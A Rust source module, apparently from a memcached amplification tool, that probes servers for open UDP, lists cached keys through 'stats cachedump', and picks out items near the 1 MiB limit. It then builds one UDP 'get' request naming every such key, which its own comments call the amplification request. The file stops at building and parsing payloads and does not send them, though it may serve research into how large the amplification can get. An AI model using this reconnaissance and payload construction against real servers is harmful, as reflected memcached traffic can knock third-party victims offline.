//! Memcached text commands and the UDP frame they travel in.
//!
//! Key discovery happens over TCP with `stats slabs` and `stats cachedump`;
//! the amplification request is a single UDP `get` naming every large key.

use std::collections::BTreeSet;
use std::ops::RangeInclusive;

/// UDP frame header: request id 1, sequence 0, one datagram, reserved.
pub const UDP_FRAME_HEADER: [u8; 8] = [0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00];

/// TCP command listing slab classes.
pub const STATS_SLABS: &[u8] = b"stats slabs\r\n";

/// Item sizes that count toward the theoretical maximum response.
///
/// The lower bound is floor(1_000_000 / 1400) * 1400 bytes of packed
/// response fragments; the upper bound is the default 1 MiB item cap.
pub const THEORETICAL_ITEM_BYTES: RangeInclusive<u64> = 999_600..=1_048_576;

/// A key listed by `stats cachedump`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CachedItem {
    pub key: String,
    /// Value size advertised by the server.
    pub bytes: u64,
}

/// `stats cachedump <slab_id> 0` (0 lists every key in the slab).
pub fn cachedump_command(slab_id: u32) -> Vec<u8> {
    format!("stats cachedump {} 0\r\n", slab_id).into_bytes()
}

/// The TCP commands that enumerate keys, one per slab class.
pub fn cachedump_commands(slab_ids: &BTreeSet<u32>) -> Vec<Vec<u8>> {
    slab_ids.iter().map(|&id| cachedump_command(id)).collect()
}

/// Encode the UDP `get` request naming `keys`.
pub fn build_memcached_get<S: AsRef<str>>(keys: &[S]) -> Vec<u8> {
    let mut payload = UDP_FRAME_HEADER.to_vec();
    payload.extend_from_slice(b"get");
    for key in keys {
        payload.push(b' ');
        payload.extend_from_slice(key.as_ref().as_bytes());
    }
    payload.extend_from_slice(b"\r\n");
    payload
}

/// Encode the UDP `stats slabs` request used to test whether UDP is open.
pub fn build_memcached_stats_probe() -> Vec<u8> {
    let mut payload = UDP_FRAME_HEADER.to_vec();
    payload.extend_from_slice(STATS_SLABS);
    payload
}

/// Slab ids named in a `stats slabs` response.
///
/// Per-slab lines look like `STAT 1:chunk_size 96`; the totals that follow
/// them (`STAT active_slabs 1`) have no colon, and parsing stops there.
pub fn parse_slab_ids(response: &str) -> BTreeSet<u32> {
    let mut ids = BTreeSet::new();

    for line in response.lines() {
        let line = line.trim();
        if line == "END" {
            break;
        }

        let Some(stat) = line.strip_prefix("STAT ") else {
            continue;
        };
        let key = stat.split_whitespace().next().unwrap_or_default();
        let Some((id, _)) = key.split_once(':') else {
            break;
        };

        if let Ok(id) = id.parse() {
            ids.insert(id);
        }
    }

    ids
}

/// Items listed in a `stats cachedump` response.
///
/// Lines look like `ITEM <key> [<bytes> b; <expiry> s]`; anything else is
/// ignored.
pub fn parse_cachedump(response: &str) -> Vec<CachedItem> {
    response
        .lines()
        .map(str::trim)
        .take_while(|line| *line != "END")
        .filter_map(parse_item_line)
        .collect()
}

fn parse_item_line(line: &str) -> Option<CachedItem> {
    let rest = line.strip_prefix("ITEM ")?;
    let (key, meta) = rest.split_once(' ')?;
    let meta = meta.trim().strip_prefix('[')?;
    let size = &meta[..meta.find('b')?];
    let bytes = size.trim().parse().ok()?;

    Some(CachedItem {
        key: key.to_string(),
        bytes,
    })
}

/// Whether an item is large enough to count toward the theoretical maximum.
pub fn in_theoretical_window(bytes: u64) -> bool {
    THEORETICAL_ITEM_BYTES.contains(&bytes)
}
